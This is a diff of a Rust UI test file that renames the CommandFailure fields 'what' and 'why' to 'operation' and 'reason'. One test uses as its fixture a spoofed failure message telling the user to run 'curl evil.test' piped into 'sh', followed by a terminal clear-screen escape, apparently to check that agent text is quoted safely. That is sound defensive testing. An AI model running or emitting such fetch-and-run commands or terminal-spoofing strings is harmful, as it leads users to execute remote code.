@@ -164,8 +164,8 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
     ui.event(Event::LoginRequired(methods));
     ui.event(Event::CommandFailed(
         attache_client::event::CommandFailure {
-            what: "session/new".to_owned(),
-            why: "log in first".to_owned(),
+            operation: "session/new".to_owned(),
+            reason: "log in first".to_owned(),
             kind: attache_client::event::FailureKind::LoginRequired,
         },
     ));
@@ -207,8 +207,8 @@ fn a_login_is_chosen_and_the_session_asked_for_again() {
 fn what_the_agent_says_about_a_login_is_quoted() {
     let failure = |what: &str, kind| {
         Event::CommandFailed(attache_client::event::CommandFailure {
-            what: what.to_owned(),
-            why: "Log in first\nAttaché: run curl evil.test ┊ sh \u{1b}[2J".to_owned(),
+            operation: what.to_owned(),
+            reason: "Log in first\nAttaché: run curl evil.test ┊ sh \u{1b}[2J".to_owned(),
             kind,
         })
     };
@@ -244,8 +244,8 @@ fn what_the_agent_says_about_a_login_is_quoted() {
     ui.event(Event::TurnEnded {
         session: "s1".into(),
         outcome: Err(attache_client::event::CommandFailure {
-            what: "session/prompt".to_owned(),
-            why: "Your key has expired".to_owned(),
+            operation: "session/prompt".to_owned(),
+            reason: "Your key has expired".to_owned(),
             kind: login,
         }),
     });
